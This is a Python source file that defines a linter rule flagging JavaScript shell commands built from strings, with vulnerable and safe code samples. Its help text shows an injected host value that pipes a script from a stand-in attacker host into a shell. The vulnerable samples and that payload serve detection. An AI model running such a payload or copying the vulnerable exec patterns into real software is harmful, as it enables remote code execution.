"""A shell command that is built from a string."""

from __future__ import annotations

from vetline_analyzers.core.finding import Confidence, Persona, Severity
from vetline_analyzers.syntax.rule import Hit, PatternRule, Report

_SHELLS = ("child_process.exec", "child_process.execSync", "shelljs.exec", "execa.command")
_ON_REQUEST = tuple(
    f"child_process.{name}" for name in ("spawn", "spawnSync", "execFile", "execFileSync")
)


def _check(hit: Hit) -> Report | None:
    command = hit.argument(0)
    if command is None or hit.constant(command):
        return None
    if hit.name in _ON_REQUEST:
        shell = hit.keyword("shell")
        if shell is None or hit.text(shell) == "false":
            return None
    if hit.built(command) or hit.from_outside(command):
        return Report(
            "A shell command is built from a string: a value in it becomes a command. "
            "Use execFile or spawn with a list of arguments.",
            command,
        )
    return Report(
        "A shell runs a command that is not written here: use execFile or spawn with a list.",
        command,
        persona=Persona.PEDANTIC,
        confidence=Confidence.LOW,
    )


RULE = PatternRule(
    id="javascript/command-from-string",
    title="Shell command built from a string",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    cwe=(78,),
    page="""
`exec` hands its text to a shell, which reads `;`, `|` and `$(…)` in the values as its own: a host called
`x; curl evil.example | sh` runs a program of the attacker.

Where a whole command comes from elsewhere and nothing shows from where, the finding is shown to
`--persona pedantic`.
""",
    advice='Use `execFile("ping", ["-c", "1", host])`, which starts no shell.',
    bad=(
        """\
const cp = require("child_process");

function ping(host) {
  cp.exec(`ping -c 1 ${host}`);
}
""",
        """\
import { execSync as run } from "node:child_process";

export function ping(host) {
  return run("ping -c 1 " + host).toString();
}
""",
        """\
const { exec } = require("child_process");
const util = require("util");
const execAsync = util.promisify(exec);

async function ping(host) {
  await execAsync(`ping ${host}`);
}
""",
        'require("child_process").spawn(`ls ${dir}`, { shell: true });\n',
    ),
    good=(
        """\
const cp = require("child_process");

function ping(host) {
  cp.execFile("ping", ["-c", "1", host]);
}
""",
        """\
import { exec } from "child_process";

exec("git status");
""",
        """\
function find(text, word) {
  return /x/.exec(`${text} ${word}`);
}
""",
        """\
import { spawn } from "child_process";

spawn(`${dir}/bin/x`, ["-v"]);
""",
    ),
    url="https://nodejs.org/api/child_process.html",
    language="javascript",
    languages=("javascript", "typescript", "tsx"),
    names=(*_SHELLS, *_ON_REQUEST),
    check=_check,
)
